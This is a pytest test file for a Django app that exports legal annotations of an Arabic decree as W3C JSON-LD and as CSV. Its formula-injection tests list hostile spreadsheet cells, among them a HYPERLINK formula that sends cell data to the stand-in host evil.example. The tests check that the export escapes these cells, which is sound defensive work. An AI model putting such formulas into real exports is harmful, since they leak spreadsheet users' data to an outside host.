"""Annotations of a law exported as W3C Web Annotation JSON-LD and as CSV: the W3C model's shape, the stable
addresses they cite (which lead staff to the thing), approved only unless asked, Arabic that spreadsheets read."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from django.urls import reverse

from reviews.compliance import OUTPUT_STATUSES
from reviews.exports import ANNOTATION_CSV_HEADER, W3C_CONTEXT, annotations_csv, annotations_jsonld
from reviews.models import Annotation, Evidence
from tests.reviews import test_compliance as fixtures
from tests.reviews.test_compliance import Annotated, provision

# The same law, people and annotations as the compliance tests.
people, decree, annotated = fixtures.people, fixtures.decree, fixtures.annotated

pytestmark = pytest.mark.django_db

BASE = "http://127.0.0.1:8000"  # SITE_URL's default
MOTIVATIONS = {
    "assessing", "bookmarking", "classifying", "commenting", "describing", "editing", "highlighting",
    "identifying", "linking", "moderating", "questioning", "replying", "tagging",
}  # fmt: skip
XSD_DATETIME_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")


def check_w3c_annotation(item: dict[str, Any]) -> None:
    """The W3C Web Annotation Data Model's requirements for one annotation, as this export uses it."""
    assert set(item) >= {"id", "type", "motivation", "created", "modified", "creator", "body", "target"}
    assert item["id"].startswith(BASE + "/") and item["type"] == "Annotation"
    assert item["motivation"] in MOTIVATIONS
    assert XSD_DATETIME_UTC.match(item["created"]) and XSD_DATETIME_UTC.match(item["modified"])
    assert item["creator"]["type"] == "Person" and item["creator"]["name"]
    assert isinstance(item["body"], list) and item["body"]
    for body in item["body"]:
        assert body["type"] in {"TextualBody", "SpecificResource"}, body
        assert body["purpose"] in MOTIVATIONS, body
        if body["type"] == "TextualBody":
            assert isinstance(body["value"], str) and body["value"], body
        else:
            source = body["source"]
            assert isinstance(source, str) or re.match(r"^https?://", source["id"]), body
    target = item["target"]
    assert re.match(r"^https?://", target["source"])
    for selector in target.get("selector", []):
        if selector["type"] == "TextQuoteSelector":
            assert isinstance(selector["exact"], str) and selector["exact"]
            assert isinstance(selector["prefix"], str) and isinstance(selector["suffix"], str)
        else:
            assert selector["type"] == "TextPositionSelector"
            assert isinstance(selector["start"], int) and isinstance(selector["end"], int)
            assert 0 <= selector["start"] < selector["end"]


def bodies(item: dict[str, Any], purpose: str) -> list[dict[str, Any]]:
    return [body for body in item["body"] if body["purpose"] == purpose]


def jsonld(client: Any, annotated: Annotated, **params: str) -> dict[str, Any]:
    response = client.get(reverse("reviews_export_jsonld", args=[annotated.law.pk]), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/ld+json")
    return json.loads(response.content.decode("utf-8"))


# JSON-LD -------------------------------------------------------------------------------------------------------


def test_jsonld_is_an_annotation_collection_in_the_w3c_model(annotated: Annotated, admin_client) -> None:
    collection = jsonld(admin_client, annotated)

    assert collection["@context"] == W3C_CONTEXT
    assert collection["type"] == "AnnotationCollection"
    assert collection["id"] == f"{BASE}/admin/reviews/exports/{annotated.law.pk}/annotations.jsonld?status=approved"
    assert collection["total"] == 3 and "مرسوم" in collection["label"]
    page = collection["first"]
    assert page["type"] == "AnnotationPage" and page["startIndex"] == 0 and len(page["items"]) == 3
    for item in page["items"]:
        check_w3c_annotation(item)
    assert json.loads(json.dumps(collection)) == collection  # round-trips through JSON unchanged
    ids = [item["id"] for item in page["items"]]
    assert len(set(ids)) == 3 and f"{BASE}/admin/reviews/cite/annotations/{annotated.public.pk}/" in ids


def test_an_annotation_in_jsonld_carries_its_assessment_standards_tags_evidence_and_passage(
    annotated: Annotated, admin_client
) -> None:
    Evidence.objects.create(
        annotation=annotated.public,
        kind="jurisprudence",
        citation="CCPR/C/GC/34, para. 49",
        url="https://undocs.org/CCPR/C/GC/34",
        note="قوانين الأخبار الكاذبة",
    )
    Evidence.objects.create(annotation=annotated.public, kind="report", citation="تقرير بلا رابط")
    (item,) = [
        i for i in jsonld(admin_client, annotated)["first"]["items"] if i["id"].endswith(f"/{annotated.public.pk}/")
    ]

    assert item["motivation"] == "assessing" and item["creator"]["nickname"] == "rania"
    assert bodies(item, "commenting") == [
        {"type": "TextualBody", "purpose": "commenting", "value": "تجريم فضفاض لحرية التعبير", "format": "text/plain"}
    ]
    classifying = bodies(item, "classifying")
    assert {
        "type": "TextualBody",
        "purpose": "classifying",
        "label": "assessment",
        "value": "incompatible",
    } in classifying
    assert {"type": "TextualBody", "purpose": "classifying", "label": "severity", "value": "high"} in classifying
    (standard,) = [body["source"] for body in classifying if body["type"] == "SpecificResource"]
    assert standard["id"] == f"{BASE}/admin/reviews/cite/standards/ICCPR-19/"
    assert standard["dcterms:identifier"] == "ICCPR-19" and standard["dcterms:isPartOf"] == "ICCPR"
    assert {"@value": "Freedom of opinion and expression", "@language": "en"} in standard["dcterms:title"]
    assert {"@value": "حرية الرأي والتعبير", "@language": "ar"} in standard["dcterms:title"]
    assert bodies(item, "tagging") == [{"type": "TextualBody", "purpose": "tagging", "value": "expression"}]
    (link,) = bodies(item, "linking")
    assert link["source"]["id"] == "https://undocs.org/CCPR/C/GC/34"
    assert link["source"]["label"] == "CCPR/C/GC/34, para. 49"
    assert link["source"]["dcterms:description"] == "قوانين الأخبار الكاذبة"
    assert bodies(item, "describing")[0]["value"] == "تقرير بلا رابط"

    article = provision(annotated.law, "art_1")
    target = item["target"]
    assert target["source"] == f"{BASE}/admin/reviews/cite/laws/{annotated.law.pk}/art_1/"
    quote, position = target["selector"]
    assert quote["type"] == "TextQuoteSelector" and quote["exact"] == "أخباراً كاذبة"
    assert quote["prefix"].endswith("كل من نشر ") and quote["suffix"].startswith(" من شأنها")
    assert position["type"] == "TextPositionSelector"
    assert article.full_text[position["start"] : position["end"]] == "أخباراً كاذبة"


def test_an_annotation_on_a_whole_article_has_no_selector(annotated: Annotated) -> None:
    items = annotations_jsonld(annotated.law)["first"]["items"]
    (whole,) = [i for i in items if i["id"].endswith(f"/{annotated.approved.pk}/")]

    assert "selector" not in whole["target"]
    assert whole["target"]["source"].endswith(f"/cite/laws/{annotated.law.pk}/art_1/")
    check_w3c_annotation(whole)


def test_jsonld_counts_drafts_only_when_asked_and_the_public_scope_never(annotated: Annotated, admin_client) -> None:
    everything = jsonld(admin_client, annotated, status="all")
    assert everything["total"] == 6
    for item in everything["first"]["items"]:
        check_w3c_annotation(item)

    public = annotations_jsonld(annotated.law, public_only=True, statuses=OUTPUT_STATUSES)
    assert [item["id"] for item in public["first"]["items"]] == [
        f"{BASE}/admin/reviews/cite/annotations/{annotated.public.pk}/"
    ]


def test_the_addresses_the_export_cites_lead_staff_to_the_things(annotated: Annotated, admin_client) -> None:
    item = annotations_jsonld(annotated.law)["first"]["items"][0]
    standard = next(b["source"]["id"] for b in item["body"] if b["type"] == "SpecificResource")

    response = admin_client.get(item["id"].removeprefix(BASE))
    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailsnippets_reviews_annotation:inspect", args=[annotated.public.pk])
    response = admin_client.get(item["target"]["source"].removeprefix(BASE))
    article = provision(annotated.law, "art_1")
    assert response["Location"] == f"{annotated.law.get_admin_url()}#{article.anchor}"
    response = admin_client.get(standard.removeprefix(BASE))
    assert "/snippets/reviews/standardprovision/inspect/" in response["Location"]
    assert admin_client.get(response["Location"]).status_code == 200


def test_the_cited_addresses_are_refused_without_the_permission(annotated: Annotated, client, people) -> None:
    item = annotations_jsonld(annotated.law)["first"]["items"][0]
    response = client.get(item["id"].removeprefix(BASE))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


# CSV -----------------------------------------------------------------------------------------------------------


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel reads the Arabic right
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_has_one_row_per_approved_annotation_with_its_arabic_intact(annotated: Annotated, client, people) -> None:
    client.force_login(people["researcher"])
    response = client.get(reverse("reviews_export_csv", args=[annotated.law.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="annotations-law-{annotated.law.pk}.csv"'
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0].split(",") == ANNOTATION_CSV_HEADER
    rows = read_csv(response.content)
    assert [row["eid"] for row in rows] == ["art_1", "art_1", "art_2__para_1"]
    first = rows[0]
    assert first["law"] == "Legislative decree No. 10 of 2020: مرسوم تشريعي بشأن الجرائم"
    assert first["article"] == "1" and first["quote"] == "أخباراً كاذبة"
    assert first["assessment"] == "incompatible" and first["severity"] == "high"
    assert first["standards"] == "ICCPR-19" and first["tags"] == "expression"
    assert first["status"] == "approved" and first["public"] == "yes" and first["author"] == "rania"
    assert first["commentary"] == "تجريم فضفاض لحرية التعبير"
    assert re.match(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ$", first["created"])
    assert rows[1]["public"] == "no" and rows[1]["quote"] == ""


def test_csv_includes_drafts_and_annotations_under_review_only_when_asked(annotated: Annotated, admin_client) -> None:
    url = reverse("reviews_export_csv", args=[annotated.law.pk])

    statuses = {row["eid"]: row["status"] for row in read_csv(admin_client.get(url, {"status": "all"}).content)}
    assert statuses["art_4"] == "changes_requested"
    all_rows = read_csv(admin_client.get(url, {"status": "all"}).content)
    assert sorted(row["status"] for row in all_rows if row["eid"] == "art_3") == ["draft", "submitted"]
    only_submitted = read_csv(admin_client.get(url, {"status": "submitted"}).content)
    assert [(row["eid"], row["standards"]) for row in only_submitted] == [("art_3", "ICCPR-19; ICCPR-22")]


def test_csv_in_the_public_scope_has_only_the_public_annotation(annotated: Annotated) -> None:
    rows = read_csv(annotations_csv(annotated.law, public_only=True, statuses=OUTPUT_STATUSES).encode("utf-8"))

    assert [(row["eid"], row["public"], row["status"]) for row in rows] == [("art_1", "yes", "approved")]


def test_csv_of_a_queryset_of_annotations(annotated: Annotated) -> None:
    chosen = Annotation.objects.filter(pk__in=[annotated.paragraph.pk, annotated.draft.pk])
    rows = read_csv(annotations_csv(chosen, statuses=OUTPUT_STATUSES).encode("utf-8"))

    assert [row["eid"] for row in rows] == ["art_2__para_1", "art_3"]
    assert rows[0]["article"] == "2"  # the article the paragraph belongs to; its eid says which paragraph


# Formula injection (issue 13) ----------------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("https://evil.example/?x="&A1,"انقر")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", INJECTIONS)
def test_csv_cells_a_spreadsheet_would_run_come_out_as_text(annotated: Annotated, admin_client, value: str) -> None:
    Annotation.objects.filter(pk=annotated.public.pk).update(commentary=value, recommendation=value + " توصية")
    annotated.law.title_ar = value
    annotated.law.number = ""
    annotated.law.year = None
    annotated.law.save()

    response = admin_client.get(reverse("reviews_export_csv", args=[annotated.law.pk]))

    assert response.content.count(b"\xef\xbb\xbf") == 1
    rows = read_csv(response.content)
    first = next(row for row in rows if row["public"] == "yes")
    assert first["commentary"] == "'" + value
    assert first["recommendation"] == "'" + value + " توصية"
    assert first["law"] == "'" + value
    assert first["quote"] == "أخباراً كاذبة"  # Arabic intact
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_compliance_csv_has_one_bom_and_no_formula(annotated: Annotated, admin_client) -> None:
    response = admin_client.get(reverse("reviews_compliance_csv", args=[annotated.law.pk]))

    assert response.content.startswith(b"\xef\xbb\xbf") and response.content.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) > 1
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
